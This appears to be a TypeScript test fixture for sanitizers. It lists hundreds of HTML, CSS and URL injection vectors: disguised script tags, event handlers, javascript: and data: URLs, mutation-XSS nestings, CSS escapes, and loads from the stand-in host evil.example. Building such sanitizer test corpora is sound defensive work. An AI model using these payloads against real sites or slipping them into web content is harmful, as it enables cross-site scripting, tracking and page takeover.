/**
 * Attempts to run script, to load from elsewhere or to reach out of one's box. One list for the cleaners' own tests and for a
 * browser: there each of them would call `pwned()` or ask `evil.example` for something.
 */
const RUN = 'pwned()'

/** HTML as an editor might send it. */
export const HTML_VECTORS: readonly string[] = [
  // Scripts, plain and disguised.
  `<script>${RUN}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/xss>${RUN}</script>`,
  `<script>${RUN}`, `<<script>${RUN}//<</script>`, `<script src="data:text/javascript,${RUN}"></script>`, `<script type="module">${RUN}</script>`, `<script type="text/plain">x</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<xmp><script>${RUN}</script></xmp>`, `<plaintext><script>${RUN}</script>`,
  `<noembed><img src=x onerror=${RUN}></noembed>`, `<noframes><img src=x onerror=${RUN}></noframes>`, `<textarea><script>${RUN}</script></textarea>`, `<title><script>${RUN}</script></title>`,
  // Handlers.
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<img src='/x' onload='${RUN}'>`, `<img src=x:x onerror=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<body onload=${RUN}>`, `<p onclick=${RUN}>a</p>`, `<p ONMOUSEOVER=${RUN}>a</p>`, `<p onpointerenter=${RUN}>a</p>`, `<p onfocus=${RUN} tabindex=0 autofocus>a</p>`, `<div onanimationstart=${RUN} style="animation:x 1s">a</div>`,
  `<details open ontoggle=${RUN}>a</details>`, `<video onloadstart=${RUN} src=/x></video>`, `<audio src=/x onerror=${RUN}></audio>`, `<video><source onerror=${RUN}></video>`, `<marquee onstart=${RUN}>a</marquee>`,
  `<select onfocus=${RUN} autofocus><option>a</select>`, `<input onfocus=${RUN} autofocus>`, `<button onclick=${RUN}>a</button>`, `<p on\u0000click=${RUN}>a</p>`, `<p onclick\u0009=${RUN}>a</p>`, `<p onclick\u000C=${RUN}>a</p>`,
  `<a href=/x onclick=${RUN}>a</a>`, `<iframe onload=${RUN} src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`, `<p onbeforetoggle=${RUN} popover>a</p>`, `<p oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">a</p>`,
  `<p onscrollsnapchange=${RUN}>a</p>`, `<p onwebkittransitionend=${RUN}>a</p>`, `<style onload=${RUN}></style>`, `<link rel=stylesheet href=/x onload=${RUN}>`, `<object onerror=${RUN} data=/x></object>`,
  // Addresses.
  `<a href="javascript:${RUN}">a</a>`, `<a href="JaVaScRiPt:${RUN}">a</a>`, `<a href=" javascript:${RUN}">a</a>`, `<a href="java\tscript:${RUN}">a</a>`, `<a href="java\nscript:${RUN}">a</a>`, `<a href="java&#9;script:${RUN}">a</a>`,
  `<a href="&#106;avascript:${RUN}">a</a>`, `<a href="&#x6a;avascript:${RUN}">a</a>`, `<a href="javascript&colon;${RUN}">a</a>`, `<a href="\u0001javascript:${RUN}">a</a>`, `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">a</a>`, `<a href="vbscript:msgbox(1)">a</a>`, `<a href="blob:https://evil.example/x">a</a>`, `<a href="filesystem:https://evil.example/x">a</a>`, `<a href="file:///etc/passwd">a</a>`,
  `<a xlink:href="javascript:${RUN}">a</a>`, `<area href="javascript:${RUN}" shape=default>`, `<map name=x><area href="javascript:${RUN}"></map><img usemap=#x src=/x>`, `<base href="https://evil.example/">`, `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button>a</button></form>`, `<button formaction="javascript:${RUN}">a</button>`, `<input type=image formaction="javascript:${RUN}">`, `<isindex action="javascript:${RUN}" type=submit>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv="refresh" content="0; url=https://evil.example">`, `<meta charset=utf-7>`, `<blockquote cite="javascript:${RUN}">a</blockquote>`, `<a ping="https://evil.example" href=/x>a</a>`,
  // Frames, objects and other documents.
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe src="https://evil.example"></iframe>`, `<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>`, `<iframe src="//evil.example/https://player.vimeo.com/video/1"></iframe>`, `<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>`,
  `<iframe src="https://player.vimeo.com/video/76979871" srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`, `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ&quot; onload=&quot;${RUN}"></iframe>`,
  `<iframe title='"><script>${RUN}</script>' src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`, `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`, `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<embed src="https://evil.example/x.swf">`, `<applet code=x></applet>`, `<portal src="https://evil.example"></portal>`, `<fencedframe></fencedframe>`,
  // Drawings, formulas and mutations.
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script xlink:href="data:,${RUN}"></script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN}/></svg>#x"></svg>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<svg><desc><noscript><img src=x onerror=${RUN}></noscript></desc></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<math><mi xlink:href="javascript:${RUN}">a</mi></math>`, `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math href="javascript:${RUN}">a</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=1 onerror=${RUN}>">`,
  `<p><svg><p><style><g title="</style><img src onerror=${RUN}>">`, `<table><caption><svg><desc><table><caption></svg></caption></table></desc><img src=x onerror=${RUN}>`, `<div id="x" title="&quot;><img src=x onerror=${RUN}>">a</div>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!--><img src=x onerror=${RUN}>-->`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<comment><img src="</comment><img src=x onerror=${RUN}>">`,
  `<a title="</a><img src=x onerror=${RUN}>">a</a>`, `<p title='<script>${RUN}</script>'>a</p>`, `<img alt="><script>${RUN}</script>" src="/x">`, `<listing>&lt;img onerror=${RUN} src=x&gt;</listing>`,
  `<x-custom onclick=${RUN}>a</x-custom>`, `<slot onslotchange=${RUN}><p>a</p></slot>`, `<p is="x-y" onclick=${RUN}>a</p>`, `<div contenteditable onpaste=${RUN}>a</div>`, `<dialog open oncancel=${RUN}>a</dialog>`,
  // What reaches past its own box or tells another host.
  `<img src="https://evil.example/pixel">`, `<img src="//evil.example/pixel">`, `<img src="/\\evil.example/pixel">`, `<img srcset="https://evil.example/pixel 1x">`, `<picture><source srcset="https://evil.example/p"><img src="/x" alt=""></picture>`,
  `<video poster="https://evil.example/p" src="/x"></video>`, `<audio src="https://evil.example/x"></audio>`, `<table background="https://evil.example/x"><tr><td>a</table>`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=preconnect href="https://evil.example">`,
  `<style>@import url(https://evil.example)</style>`, `<style>body{background:url(https://evil.example)}</style>`, `<p style="background:url(https://evil.example)">a</p>`, `<p style="background:url('//evil.example')">a</p>`, `<p style="position:fixed;inset:0">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`, `<p style="behavior:url(/x.htc)">a</p>`, `<p style="-moz-binding:url(https://evil.example)">a</p>`, `<p style="background:\\75rl(https://evil.example)">a</p>`, `<p style="list-style:image-set('https://evil.example/x' 1x)">a</p>`,
  `<p style="content:url(https://evil.example)">a</p>`, `<p style="background:url(&quot;javascript:${RUN}&quot;)">a</p>`, `<form action="/auth/logout" method=post><input name=a><button>a</button></form>`, `<a href="/x" target="_top">a</a>`, `<a id="location" name="cookie" href="/x">a</a>`,
  `<a href="/x" accesskey="x" onclick="${RUN}">a</a>`, `<p data-consent="" data-styled="other">a</p>`, `<p data-page="">a</p>`, `<span class="new-tab-note" onclick=${RUN}>a</span>`,
]

/** Styles of a custom block or a page: none of these may leave the block, run, or load from elsewhere. */
export const STYLE_VECTORS: readonly string[] = [
  `</style><script>${RUN}</script>`, `p{color:red}</style><img src=x onerror=${RUN}>`, `p{content:"</style><script>${RUN}</script>"}`, `p::after{content:'</StYlE ><svg onload=${RUN}>'}`, `/*</style><script>${RUN}</script>*/p{color:red}`,
  `a[title="</style><script>${RUN}</script>"]{color:red}`, `@media </style><script>${RUN}</script>{p{color:red}}`, `<!-- </style><script>${RUN}</script> -->`, `p{color:red}<!--`, `p{--x:</style><script>${RUN}</script>}`, `p{font-family:"<\\/style>"}</style ><script>${RUN}</script>`,
  '@import "https://evil.example/x.css";', '@import url(//evil.example/x.css);', '@IMPORT url("https://evil.example");', '@\\69mport "https://evil.example";', '@im/**/port "https://evil.example";', '@charset "utf-7";@import "https://evil.example";', '@namespace url(https://evil.example);',
  '@font-face{font-family:x;src:url(https://evil.example/f)}', '@font-face{font-family:x;src:local("x")}', '@page{background:url(https://evil.example)}', '@document url(https://evil.example){p{color:red}}', '@-moz-document url-prefix(){p{color:red}}', '@layer a{body{display:none}}',
  '@property --x{syntax:"<url>";inherits:true;initial-value:url(https://evil.example)}', '@keyframes x{from{background:url(https://evil.example)}}', '@scope (body){p{display:none}}', '@starting-style{body{display:none}}', '@view-transition{navigation:auto}', '@counter-style x{symbols:url(https://evil.example)}',
  'p{background:url(https://evil.example)}', 'p{background:url("https://evil.example")}', 'p{background:URL(https://evil.example)}', 'p{background:url(//evil.example)}', 'p{background:url(/\\\\evil.example)}', 'p{background:\\75rl(https://evil.example)}', 'p{background:u\\72l(https://evil.example)}',
  'p{background:url(\\68ttps://evil.example)}', 'p{background:ur/**/l(https://evil.example)}', 'p{background:url(data:text/html,x)}', `p{background:url(javascript:${RUN})}`, 'p{background:image-set("https://evil.example" 1x)}', 'p{background:-webkit-image-set(url(https://evil.example) 1x)}',
  'p{background:image("https://evil.example")}', 'p{background:cross-fade(url(https://evil.example),url(/x))}', 'p{background:src("https://evil.example")}', 'p{background:element(#main)}', 'p{background:paint(x)}', 'p{cursor:url(https://evil.example),auto}', 'p{list-style:url(https://evil.example)}',
  'p{filter:url(https://evil.example#x)}', 'p{mask:url(https://evil.example#x)}', 'p{--u:url(https://evil.example);background:var(--u)}', 'p{border-image:url(https://evil.example) 1}', 'p::before{content:url(https://evil.example)}', `p{width:expression(${RUN})}`, `p{width:exp/**/ression(${RUN})}`, `p{width:e\\78pression(${RUN})}`,
  'p{behavior:url(#default#x)}', 'p{-moz-binding:url(https://evil.example#x)}', 'p{position:fixed;inset:0}', 'p{position:FIXED}', 'p{position:\\66ixed}', 'p{position:sticky}', 'p{position:fixed!important}', 'p{position:var(--p)}', 'p{POSITION:fixed}', 'p{\\70osition:fixed}', 'p{position:/**/fixed}',
  '}body{display:none', '}}body{display:none}{', 'p{color:red}}body{display:none}', 'body{}}html{display:none}', '@media all{}}body{display:none}', 'p{color:"}body{display:none}', "p{color:'}body{display:none}\n}", 'p{color:red;}\\}body{display:none}', '*/}body{display:none}/*', 'p{/*}*/}body{display:none}',
  'p,}body{display:none}', '+ *{display:none}', '~ *{display:none}', ':root + *{display:none}', ':root ~ *{display:none}', 'body ~ footer{display:none}', '& + *{display:none}', '&~*{display:none}', '> + *{display:none}', ':scope ~ *{display:none}', 'p{& ~ *{display:none}}', 'p{body &{display:none}}', ':host-context(body) ~ *{display:none}',
  'p{}@import "https://evil.example";', 'p{color:red', 'p{color:red;/*', '"', "'", '\\', '{', '}', '@', '@media', '@media{', 'p{\u0000}body{display:none}', 'p{color:red;\\', 'a{b:c;}d{e:f;}</style/',
]

/** Where a link, a redirection or a menu item might be sent. None of these may become an address. */
export const URL_VECTORS: readonly string[] = [
  `javascript:${RUN}`, `JAVASCRIPT:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, `javascript://%0a${RUN}`, `javascript:/*https://*/${RUN}`, `vbscript:msgbox(1)`, `livescript:${RUN}`, `mocha:${RUN}`,
  'data:text/html,<script>pwned()</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:text/html,x', 'data:image/svg+xml,<svg onload=pwned()>', 'blob:https://evil.example/x', 'filesystem:https://evil.example/x', 'file:///etc/passwd', 'about:blank', 'view-source:https://evil.example', 'ftp://evil.example',
  '//evil.example', '///evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', '/\n/evil.example', 'https:evil.example', 'https:/evil.example', 'http:\\\\evil.example', 'https://', 'http:// evil.example', 'x', 'evil.example', '?javascript:pwned()', '#x javascript:', 'mailto', 'tel', 'intent://evil.example#Intent;end', 'ms-settings:', 'chrome://settings',
]
